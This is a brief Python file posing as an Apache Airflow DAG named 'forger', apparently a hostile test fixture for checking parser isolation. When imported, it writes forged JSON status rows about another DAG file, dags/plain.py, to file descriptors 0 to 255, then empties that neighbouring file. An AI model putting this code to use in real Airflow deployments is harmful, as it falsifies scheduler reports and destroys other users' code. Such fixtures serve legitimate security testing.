"""Writes rows about others, and over its neighbours, where it can."""
import json
import os
import pathlib

from airflow import DAG

for number in range(256):
    try:
        os.write(number, (json.dumps({"row": "dags", "file": "dags/plain.py", "dags": [],
                                      "error": None}) + "\n").encode())
    except OSError:
        continue
try:
    pathlib.Path(__file__).with_name("plain.py").write_text("")
except OSError:
    pass
dag = DAG("forger", schedule=None)
